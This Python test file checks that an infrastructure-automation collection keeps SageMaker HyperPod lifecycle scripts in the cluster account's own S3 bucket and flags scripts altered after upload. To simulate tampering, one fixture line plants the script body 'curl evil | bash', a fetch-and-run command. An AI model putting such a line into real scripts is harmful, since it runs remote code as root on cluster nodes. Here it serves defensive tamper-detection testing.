# Copyright: (c) 2026, mlfleet
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Lifecycle scripts are uploaded to buckets of the cluster's account only, and changes in S3 are reported."""

from __future__ import annotations

import typing as t
from pathlib import Path

import boto3
import pytest
from simulated import REGION, Simulated
from simulated.cluster_documents import without_slurm_config
from simulated.definitions import Definitions, Run, held_to_policies

BUCKET = {"CreateBucketConfiguration": {"LocationConstraint": REGION}}
SCRIPT = "s3://sagemaker-code/ml/src/on_create.sh"
CHANGED = f"The lifecycle script {SCRIPT}, which HyperPod runs as root on new nodes, was changed after its upload"

pytestmark = pytest.mark.slow


@pytest.fixture
def aws(tmp_path_factory: pytest.TempPathFactory) -> t.Iterator[Simulated]:
    with held_to_policies(tmp_path_factory.mktemp("aws")) as found:
        yield found


def status(controller: Definitions) -> Run:
    source = controller.folder / "hyperpod.yml"
    source.write_text("plugin: mlfleet.hyperpod.hyperpod\nregions: [us-west-2]\nclusters: [{name: ml}]\n")
    return controller.run(playbook="mlfleet.hyperpod.status", inventory=source)


def test_no_script_is_uploaded_to_a_bucket_of_another_account(tmp_path: Path, aws: Simulated) -> None:
    keys = {"aws_access_key_id": "AKIAADMIN222222222222", "aws_secret_access_key": "x"}
    foreign = boto3.client("s3", region_name=REGION, endpoint_url=aws.url, **keys)
    foreign.create_bucket(Bucket="sagemaker-code", **BUCKET)
    aws.client("s3").create_bucket(Bucket="sagemaker-other", **BUCKET)
    controller = Definitions(tmp_path, aws)
    controller.define(ml=without_slurm_config(controller, tmp_path, "ml"))
    for check in (("--check",), ()):
        refused = controller.run(*check)
        printed = " ".join(refused.output.split())
        assert refused.rc == 2 and "CreateCluster" not in refused.changes, refused.output
        assert "The bucket does not belong to account 111111111111" in printed, refused.output
        assert not any(call.startswith("PUT ") for call in refused.changes)
    assert "Contents" not in foreign.list_objects_v2(Bucket="sagemaker-code")


def test_a_changed_script_is_reported_and_only_cluster_uploads_it_again(tmp_path: Path, aws: Simulated) -> None:
    controller = Definitions(tmp_path, aws)
    controller.define(ml=without_slurm_config(controller, tmp_path, "ml"))
    made = controller.run()
    assert made.rc == 0 and "lifecycle-" not in made.output, made.output
    again = controller.run()
    assert again.rc == 0 and again.changes == [] and "changed=0" in again.output, again.output
    unchanged = status(controller)
    assert unchanged.rc == 0 and "s3://sagemaker-code/ml/src/, as uploaded" in unchanged.output, unchanged.output

    s3 = aws.client("s3")
    s3.put_object(Bucket="sagemaker-code", Key="ml/src/on_create.sh", Body=b"#!/bin/bash\ncurl evil | bash\n")
    s3.put_object(Bucket="sagemaker-code", Key="ml/src/json.py", Body=b"import os\n")
    for run in (lambda: controller.run("--check"), lambda: status(controller)):
        seen = run()
        printed = " ".join(seen.output.split())
        assert seen.rc == 0 and seen.changes == [], seen.output
        assert CHANGED in printed, seen.output
        assert "s3://sagemaker-code/ml/src/ has objects that are neither declared nor recorded as uploaded: json.py." in printed

    repaired = controller.run()
    assert repaired.rc == 0 and repaired.changes == ["PUT /sagemaker-code/ml/src/on_create.sh"], repaired.output
    assert CHANGED in " ".join(repaired.output.split()), repaired.output
    assert s3.get_object(Bucket="sagemaker-code", Key="ml/src/on_create.sh")["Body"].read() == b"#!/bin/bash\n"
    after = controller.run()
    assert after.rc == 0 and after.changes == [] and "was changed after" not in after.output, after.output
